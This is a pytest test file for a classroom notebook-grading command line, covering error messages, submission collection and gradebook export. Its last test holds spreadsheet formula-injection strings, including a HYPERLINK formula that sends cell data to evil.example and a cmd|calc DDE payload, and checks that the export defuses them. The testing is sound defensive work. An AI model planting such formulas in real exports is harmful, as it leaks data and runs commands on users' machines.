"""Every user error of the pipeline gets one clear message, exit code 2 and no traceback; collect loses nothing."""

from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

from grader.classroom.cli import main
from grader.classroom.release import leaks
from support import ROOT, copy_course

A = "01-community-protocol"


@pytest.fixture
def course(tmp_path):
    where = tmp_path / "exercises"
    copy_course(where)
    (where / "students.csv").write_text("id,first_name,last_name,email\nalice,Alice,,\nbob,Bob,,\n")
    return where


def notebook(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.read(ROOT / "exercises/source" / A / f"{A}.ipynb", as_version=4), str(path))
    return path


def fails(capsys, *argv) -> str:
    assert main(list(argv)) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "Traceback" not in err
    return err


def test_unknown_assignment(course, capsys):
    for command in (["release", "02-nope"], ["autograde", "02-nope"], ["feedback", "02-nope"],
                    ["export", "02-nope"], ["collect", "02-nope", str(course)]):
        assert "There is no assignment '02-nope'" in fails(capsys, "--course", str(course), *command)


def test_not_a_course(tmp_path, capsys):
    assert "no nbgrader_config.py" in fails(capsys, "--course", str(tmp_path), "export", "--all")


def test_missing_path_and_bad_zip(course, tmp_path, capsys):
    assert "There is no file or folder" in fails(capsys, "--course", str(course), "collect", A, str(tmp_path / "x"))
    bad = tmp_path / "subs.zip"
    bad.write_bytes(b"PK\x03\x04 not really a zip")
    assert "neither a folder nor a zip" in fails(capsys, "--course", str(course), "collect", A, str(bad))


def test_unknown_students_and_unexpected_files_stop_collect_before_it_copies_anything(course, tmp_path, capsys):
    inbox = tmp_path / "inbox"
    notebook(inbox / "alice.ipynb")
    notebook(inbox / "mallory.ipynb")
    (inbox / "notes.txt").write_text("hello")
    err = fails(capsys, "--course", str(course), "collect", A, str(inbox))
    assert "not on the roster: mallory" in err and "notes.txt" in err and "Accepted layouts" in err
    assert not (course / "submitted").exists()


def test_collect_takes_both_layouts_from_a_zip_and_never_replaces_silently(course, tmp_path, capsys):
    inbox = tmp_path / "submissions"
    notebook(inbox / "alice.ipynb")
    notebook(inbox / "bob" / f"{A}.ipynb")
    archive = tmp_path / "submissions.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for file in inbox.rglob("*.ipynb"):
            zf.write(file, file.relative_to(tmp_path))  # inside an enclosing folder, as zipping a folder makes
    assert main(["--course", str(course), "collect", A, str(archive)]) == 0
    for student in ("alice", "bob"):
        assert (course / "submitted" / student / A / f"{A}.ipynb").is_file()
    assert "already collected for alice, bob" in fails(capsys, "--course", str(course), "collect", A, str(archive))
    assert main(["--course", str(course), "collect", A, str(archive), "--replace"]) == 0
    kept = list((course / "submitted" / ".replaced").rglob(f"{A}.ipynb"))
    assert len(kept) == 2


def test_autograde_before_release_says_what_to_do(course, capsys):
    notebook(course / "submitted" / "alice" / A / f"{A}.ipynb")
    assert "release it first" in fails(capsys, "--course", str(course), "autograde", A)


def test_a_missing_roster_says_how_to_write_one(course, tmp_path, capsys):
    (course / "students.csv").unlink()
    assert "id,first_name,last_name,email" in fails(capsys, "--course", str(course), "collect", A, str(tmp_path))


def test_the_command_line_entry_point_exits_2():
    done = subprocess.run([sys.executable, "-m", "grader.classroom", "export", "no-such-assignment"],
                          capture_output=True, text=True)
    assert done.returncode == 2 and "Traceback" not in done.stderr


def test_a_leaked_solution_line_is_found():
    source = nbformat.read(ROOT / "exercises/source" / A / f"{A}.ipynb", as_version=4)
    released = nbformat.read(ROOT / "exercises/source" / A / f"{A}.ipynb", as_version=4)
    for cell in released.cells:  # strip the markers but keep the solution: a leak without markers
        cell.source = cell.source.replace("### BEGIN SOLUTION\n", "").replace("### END SOLUTION", "")
    problems = leaks(source, released)
    assert any("AssumeRolePolicyDocument" in p or "ec2.amazonaws.com" in p for p in problems)
    assert any("BEGIN HIDDEN TESTS" in p for p in problems)


def test_collect_keeps_the_time_nbgrader_exchange_wrote_and_refuses_one_it_cannot_read(course, tmp_path, capsys):
    inbox = tmp_path / "exchange"
    notebook(inbox / "alice" / A / f"{A}.ipynb")
    (inbox / "alice" / A / "timestamp.txt").write_text("2030-01-01 14:05:00.000000 UTC\n")
    notebook(inbox / "bob" / A / f"{A}.ipynb")
    (inbox / "bob" / A / "timestamp.txt").write_text("last Tuesday-ish\n")
    err = fails(capsys, "--course", str(course), "collect", A, str(inbox))
    assert "bob/01-community-protocol/timestamp.txt holds 'last Tuesday-ish'" in err
    assert not (course / "submitted").exists()
    (inbox / "bob" / A / "timestamp.txt").unlink()
    assert main(["--course", str(course), "collect", A, str(inbox)]) == 0
    assert (course / "submitted/alice" / A / "timestamp.txt").read_text() == "2030-01-01 14:05:00.000000 UTC\n"
    assert (course / "submitted/bob" / A / "timestamp.txt").read_text().startswith("20")  # the time it was collected


def test_a_file_that_is_not_a_notebook_is_collected_and_named(course, tmp_path, capsys):
    inbox = tmp_path / "inbox"
    notebook(inbox / "alice.ipynb")
    (inbox / "bob.ipynb").write_bytes(b"%PDF-1.4 not a notebook")
    assert main(["--course", str(course), "collect", A, str(inbox)]) == 0
    out = capsys.readouterr().out
    assert "collected 2 submission(s)" in out and "bob: bob.ipynb is not a notebook Jupyter can open" in out
    assert (course / "submitted/bob" / A / f"{A}.ipynb").read_bytes() == b"%PDF-1.4 not a notebook"


def test_time_limits_are_whole_seconds_above_zero(course, capsys):
    for argv in (["feedback", A, "--timeout", "0"], ["feedback", A, "--timeout", "soon"],
                 ["release", A, "--cell-timeout", "-5"]):
        with pytest.raises(SystemExit) as stopped:
            main(["--course", str(course), *argv])
        assert stopped.value.code == 2
        err = capsys.readouterr().err
        assert "time limit is more than 0 seconds" in err or "is not a whole number of seconds" in err


def test_the_gradebook_csv_runs_no_formula_in_a_spreadsheet(course, monkeypatch):
    """A status can quote a submission; no text cell may start like a formula, and numbers stay numbers."""
    import csv
    import io

    from grader.classroom import Course, export as stage

    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
               "\t=1", "\r=1", "\uff1d1+1"]
    table = [{"student": "alice", "assignment": A, "status": f"not graded: {hostile[0]}", "total": "2", "max": "8"}]
    table += [{"student": "bob", "assignment": A, "status": text, "total": "-1.5", "max": "8"} for text in hostile]
    table += [{"student": "eve", "assignment": A, "status": f"not graded: x\reve,{A},graded,8,8", "max": "8"}]
    monkeypatch.setattr(stage, "rows", lambda course, assignments: (["student", "assignment", "status", "total",
                                                                     "max"], table))
    written = list(csv.DictReader(io.StringIO(stage.export(Course(course), [A]))))
    assert written[0]["status"] == table[0]["status"]  # text that starts as text is left as it is
    assert [row["status"] for row in written[1:-1]] == ["'" + text.replace("\r", "\n") for text in hostile]
    assert {row["total"] for row in written} == {"2", "-1.5", ""}
    assert len(written) == len(table) and written[-1]["status"] == f"not graded: x\neve,{A},graded,8,8"
